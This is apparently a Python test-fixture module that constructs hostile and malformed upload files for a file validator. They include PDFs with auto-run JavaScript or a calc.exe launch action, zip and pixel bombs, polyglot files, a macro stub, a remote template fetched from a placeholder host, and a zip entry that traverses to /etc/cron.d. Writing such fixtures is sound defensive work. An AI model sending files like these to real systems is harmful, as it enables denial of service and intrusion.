"""Files people send, good and hostile, made small and by hand: nothing here came from outside."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping

from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

WORD = "word/document.xml"
BOOK = "xl/workbook.xml"
TYPES = "[Content_Types].xml"


def pdf(pages: int = 1, **root: DictionaryObject) -> bytes:
    """A PDF of white pages; `root` are entries of its catalogue."""
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(595, 842)
    for name, value in root.items():
        writer.root_object[NameObject(f"/{name}")] = value
    return _written(writer)


def _written(writer: PdfWriter) -> bytes:
    made = io.BytesIO()
    writer.write(made)
    return made.getvalue()


def entries(**values: str) -> DictionaryObject:
    """A dictionary of a PDF: `/Name` is a name, anything else text."""
    return DictionaryObject(
        {
            NameObject(f"/{name}"): NameObject(value)
            if value.startswith("/")
            else TextStringObject(value)
            for name, value in values.items()
        }
    )


def with_script() -> bytes:
    return pdf(OpenAction=entries(S="/JavaScript", JS="app.alert(1)"))


def with_launch() -> bytes:
    return pdf(OpenAction=entries(S="/Launch", F="calc.exe"))


def with_file_inside() -> bytes:
    return pdf(Names=DictionaryObject({NameObject("/EmbeddedFiles"): ArrayObject()}))


def with_password() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.encrypt("bi-mat")
    return _written(writer)


def picture(form: str = "JPEG", size: tuple[int, int] = (120, 160), **save: object) -> bytes:
    """A picture whose upper left corner is black."""
    made = io.BytesIO()
    drawn = Image.new("RGB", size, "white")
    drawn.paste((0, 0, 0), (0, 0, size[0] // 3, size[1] // 3))
    drawn.save(made, form, **save)  # type: ignore[arg-type]
    return made.getvalue()


def pixel_bomb() -> bytes:
    """A PNG of a few hundred bytes that says it is 60,000 dots a side."""

    def part(kind: bytes, data: bytes) -> bytes:
        check = struct.pack(">I", zlib.crc32(kind + data))
        return struct.pack(">I", len(data)) + kind + data + check

    head = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + part(b"IHDR", head)
        + part(b"IDAT", zlib.compress(b""))
        + part(b"IEND", b"")
    )


def packed(parts: Mapping[str, bytes | str]) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as folder:
        for name, content in parts.items():
            folder.writestr(name, content)
    return made.getvalue()


def docx(**more: bytes | str) -> bytes:
    return packed({TYPES: "<Types/>", WORD: "<w:document/>", **more})


def zip_bomb() -> bytes:
    """210 MB of nothing, in 200 kB."""
    return docx(**{"word/media/a.bin": b"\0" * 210_000_000})


def with_macros() -> bytes:
    return docx(**{"word/vbaProject.bin": b"Sub AutoOpen()"})


def fetching() -> bytes:
    relation = (
        '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/'
        'officeDocument/2006/relationships/attachedTemplate" Target="http://la.example/x.dotm" '
        'TargetMode="External"/></Relationships>'
    )
    return docx(**{"word/_rels/settings.xml.rels": relation})


HOSTILE: Mapping[str, tuple[str, Callable[[], bytes]]] = {
    "zip bomb": ("bung ra quá lớn", zip_bomb),
    "a PDF that is also a ZIP": ("hai loại nội dung", lambda: pdf() + packed({"a.txt": "a"})),
    "a page that is also a picture": (
        "hai loại nội dung",
        lambda: picture()[:20] + b"<html><script>alert(1)</script>" + picture()[20:],
    ),
    "an SVG with a script": (
        "không phải PDF",
        lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    ),
    "a page of HTML": ("không phải PDF", lambda: b"<!doctype html><script>alert(1)</script>"),
    "a program": ("không phải PDF", lambda: b"MZ\x90\0" + b"\0" * 200),
    "a ZIP that is no document": ("không phải PDF", lambda: packed({"a.txt": "a"})),
    "path names inside": ("hai loại nội dung", lambda: docx(**{"../../etc/cron.d/x": "*"})),
    "macros": ("macro", with_macros),
    "a template from elsewhere": ("macro", fetching),
    "a PDF with a script": ("mã lệnh", with_script),
    "a PDF that starts a program": ("mã lệnh", with_launch),
    "a PDF with files inside": ("mã lệnh", with_file_inside),
    "a PDF with a password": ("mật khẩu", with_password),
    "a PDF cut short": ("bị cụt", lambda: pdf()[:-40]),
    "a picture cut short": ("bị cụt", lambda: picture(size=(900, 900))[:-2000]),
    "a pixel bomb": ("Ảnh quá lớn", pixel_bomb),
    "nothing at all": ("không có gì", lambda: b""),
    "a PDF in name only": ("hỏng", lambda: b"%PDF-1.7\n" + b"x" * 99 + b"\nstartxref\n9\n%%EOF\n"),
}
"""What must not come in: words of the sentence it is refused with, and how it is made."""
